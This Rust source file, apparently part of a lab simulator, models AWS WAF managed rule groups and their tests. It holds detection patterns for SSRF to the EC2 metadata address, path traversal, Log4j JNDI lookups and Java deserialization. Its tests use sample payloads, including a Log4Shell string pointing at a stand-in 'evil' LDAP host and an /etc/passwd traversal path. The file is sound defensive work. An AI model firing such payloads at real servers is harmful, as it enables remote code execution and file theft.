//! AWS managed rule groups at the level of their documented behaviour:
//! the core rule set, known bad inputs, the Amazon IP reputation list and
//! the SQL database set. Each rule is a fixed check; the first that
//! matches names the rule and its label. Fact sheet §6, §27.

use std::borrow::Cow;
use std::net::Ipv4Addr;

use super::lb::HttpCtx;
use super::scenario::{ManagedGroup, Transform};
use super::waf_match::{cookies, transform, waf_headers};

/// Hoplab's stand-in for Amazon's threat-intelligence list: addresses the
/// IP reputation group treats as known bad (documentation ranges, so a
/// scenario can place a client there on purpose).
pub const IP_REPUTATION_LIST: [&str; 2] = ["198.51.100.128/25", "192.0.2.128/26"];

/// Bodies larger than this are blocked by the core rule set's
/// SizeRestrictions_BODY. Fact sheet §6 "CommonRuleSet examples".
pub const CRS_MAX_BODY: usize = 8 * 1024;
/// SizeRestrictions_QUERYSTRING and _URIPATH (AWS's documented sizes).
pub const CRS_MAX_QUERY: usize = 2048;
pub const CRS_MAX_URI_PATH: usize = 1024;

const DECODE: [Transform; 3] = [
    Transform::UrlDecode,
    Transform::HtmlEntityDecode,
    Transform::Lowercase,
];

fn decoded(s: &str) -> Cow<'_, [u8]> {
    transform(Cow::Borrowed(s.as_bytes()), &DECODE)
}

fn has(hay: &[u8], pats: &[&str]) -> bool {
    pats.iter().any(|p| {
        let p = p.as_bytes();
        hay.windows(p.len()).any(|w| w == p)
    })
}

/// The name of the rule in `group` that matches, or None. Body rules see
/// only the first `body_limit` bytes (oversize Continue). Fact sheet §27
/// "Managed rule groups and capacity".
pub(crate) fn first_match(
    group: ManagedGroup,
    ctx: &HttpCtx,
    client: Ipv4Addr,
    body_limit: usize,
) -> Option<&'static str> {
    let body = &ctx.body.as_bytes()[..ctx.body.len().min(body_limit)];
    let body = transform(Cow::Borrowed(body), &DECODE);
    let path = decoded(&ctx.path);
    let query = decoded(&ctx.query);
    let cookie_text: String = cookies(ctx)
        .iter()
        .map(|(k, v)| format!("{k}={v};"))
        .collect();
    let cookie = decoded(&cookie_text);
    // Each rule's component and patterns, in the group's order.
    let parts = |pats: &[&str], names: [&'static str; 4]| -> Option<&'static str> {
        [
            (&query, names[0]),
            (&body, names[1]),
            (&path, names[2]),
            (&cookie, names[3]),
        ]
        .into_iter()
        .find(|(hay, _)| has(hay, pats))
        .map(|(_, n)| n)
    };
    match group {
        ManagedGroup::CommonRuleSet => {
            let hs = waf_headers(ctx);
            if !hs.iter().any(|(k, _)| k.eq_ignore_ascii_case("user-agent")) {
                return Some("NoUserAgent_HEADER");
            }
            if ctx.body.len() > CRS_MAX_BODY {
                return Some("SizeRestrictions_BODY");
            }
            if ctx.query.len() > CRS_MAX_QUERY {
                return Some("SizeRestrictions_QUERYSTRING");
            }
            if ctx.path.len() > CRS_MAX_URI_PATH {
                return Some("SizeRestrictions_URIPATH");
            }
            parts(
                &["169.254.169.254"],
                [
                    "EC2MetaDataSSRF_QUERYARGUMENTS",
                    "EC2MetaDataSSRF_BODY",
                    "EC2MetaDataSSRF_URIPATH",
                    "EC2MetaDataSSRF_COOKIE",
                ],
            )
            .or_else(|| {
                parts(
                    &["../", "..\\"],
                    [
                        "GenericLFI_QUERYARGUMENTS",
                        "GenericLFI_BODY",
                        "GenericLFI_URIPATH",
                        "GenericLFI_URIPATH",
                    ],
                )
            })
            .or_else(|| {
                parts(
                    &super::waf::XSS_PATTERNS,
                    [
                        "CrossSiteScripting_QUERYARGUMENTS",
                        "CrossSiteScripting_BODY",
                        "CrossSiteScripting_URIPATH",
                        "CrossSiteScripting_COOKIE",
                    ],
                )
            })
        }
        ManagedGroup::KnownBadInputs => {
            let host = ctx.host.to_ascii_lowercase();
            if host == "localhost" || host.starts_with("localhost:") {
                return Some("Host_localhost_HEADER");
            }
            if ctx.method.eq_ignore_ascii_case("PROPFIND") {
                return Some("PROPFIND_METHOD");
            }
            if has(&path, &["/web-inf", "/.git", "/.env"]) {
                return Some("ExploitablePaths_URIPATH");
            }
            let headers: String = waf_headers(ctx)
                .iter()
                .map(|(k, v)| format!("{k}: {v}\n"))
                .collect();
            if has(&decoded(&headers), &["${jndi:"]) {
                return Some("Log4JRCE_HEADER");
            }
            parts(
                &["${jndi:"],
                [
                    "Log4JRCE_QUERYSTRING",
                    "Log4JRCE_BODY",
                    "Log4JRCE_URIPATH",
                    "Log4JRCE_HEADER",
                ],
            )
            .or_else(|| {
                parts(
                    &["java.lang.runtime", "ro0ab"],
                    [
                        "JavaDeserializationRCE_QUERYSTRING",
                        "JavaDeserializationRCE_BODY",
                        "JavaDeserializationRCE_URIPATH",
                        "JavaDeserializationRCE_HEADER",
                    ],
                )
            })
        }
        ManagedGroup::AmazonIpReputationList => IP_REPUTATION_LIST
            .iter()
            .filter_map(|c| c.parse::<ipnet::Ipv4Net>().ok())
            .any(|c| c.contains(&client))
            .then_some("AWSManagedIPReputationList"),
        ManagedGroup::SqliRuleSet => parts(
            &super::waf::SQLI_PATTERNS,
            [
                "SQLi_QUERYARGUMENTS",
                "SQLi_BODY",
                "SQLi_URIPATH",
                "SQLi_COOKIE",
            ],
        ),
    }
}

/// The label a managed rule adds: `<group namespace>:<rule>`.
pub(crate) fn managed_label(group: ManagedGroup, rule: &str) -> String {
    format!("{}:{rule}", group.label_namespace())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::rc::Rc;

    fn ctx(path: &str, headers: &[(&str, &str)], body: &str) -> HttpCtx {
        HttpCtx {
            method: Rc::from("GET"),
            host: "healthcareapp.com".into(),
            path: Rc::from(path),
            query: Rc::from(""),
            headers: headers
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect::<Vec<_>>()
                .into(),
            body: Rc::from(body),
            ..Default::default()
        }
    }

    const IP: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);

    #[test]
    fn the_core_rule_set_blocks_a_missing_user_agent_and_a_body_over_8_kb() {
        // §6 "CommonRuleSet examples".
        let g = ManagedGroup::CommonRuleSet;
        assert_eq!(first_match(g, &ctx("/", &[], ""), IP, 16384), None);
        assert_eq!(
            first_match(g, &ctx("/", &[("user-agent", "")], ""), IP, 16384),
            Some("NoUserAgent_HEADER")
        );
        let big = "a".repeat(8 * 1024 + 1);
        assert_eq!(
            first_match(g, &ctx("/", &[], &big), IP, 16384),
            Some("SizeRestrictions_BODY")
        );
        assert_eq!(
            first_match(g, &ctx("/a/..%2f..%2fetc/passwd", &[], ""), IP, 16384),
            Some("GenericLFI_URIPATH")
        );
    }

    #[test]
    fn known_bad_inputs_catch_log4j_in_a_header_and_the_reputation_list_an_address() {
        // §27 "Managed rule groups": KnownBadInputs, AmazonIpReputationList.
        let c = ctx("/", &[("x-api", "${jndi:ldap://evil/a}")], "");
        assert_eq!(
            first_match(ManagedGroup::KnownBadInputs, &c, IP, 8192),
            Some("Log4JRCE_HEADER")
        );
        let bad = Ipv4Addr::new(198, 51, 100, 200);
        let ok = ctx("/", &[], "");
        assert_eq!(
            first_match(ManagedGroup::AmazonIpReputationList, &ok, bad, 8192),
            Some("AWSManagedIPReputationList")
        );
        assert_eq!(
            first_match(ManagedGroup::AmazonIpReputationList, &ok, IP, 8192),
            None
        );
    }
}
